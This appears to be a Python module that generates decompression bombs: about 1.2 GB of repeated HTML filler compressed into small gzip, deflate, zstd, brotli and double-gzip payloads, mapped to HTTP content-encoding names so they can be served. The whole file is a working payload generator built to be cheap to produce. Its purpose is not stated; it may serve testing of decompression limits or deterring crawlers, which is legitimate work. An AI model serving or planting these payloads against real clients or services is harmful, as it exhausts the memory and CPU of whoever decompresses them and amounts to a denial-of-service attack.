"""A gigabyte of nothing, packed small by each codec; made in pieces, so that making it costs little."""

from __future__ import annotations

import gzip
import struct
import zlib
from functools import cache

import brotli
import zstandard

MEGABYTE = b"<p>word</p>    " * 70_000
TIMES = 1200


@cache
def gzip_bomb() -> bytes:
    """Members in a row, each of 100 MB."""
    return gzip.compress(MEGABYTE * 100, 9) * (TIMES // 100)


@cache
def deflate_bomb() -> bytes:
    """One piece between two full flushes, over and over: it does not look back beyond itself."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"<html>") + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + piece * TIMES + struct.pack(">BHHI", 1, 0, 0xFFFF, 0)


@cache
def zstd_bomb() -> bytes:
    packer = zstandard.ZstdCompressor(level=3).compressobj()
    return b"".join([packer.compress(MEGABYTE) for _ in range(TIMES)] + [packer.flush()])


@cache
def brotli_bomb() -> bytes:
    packer = brotli.Compressor(quality=1)  # 398 kB, made in an eighth of the time that the 9 kB of 5 take
    return b"".join([packer.process(MEGABYTE) for _ in range(TIMES)] + [packer.finish()])


def double_gzip_bomb() -> bytes:
    return gzip.compress(gzip_bomb(), 9)


CODECS = {"gzip": gzip_bomb, "deflate": deflate_bomb, "zstd": zstd_bomb, "br": brotli_bomb}
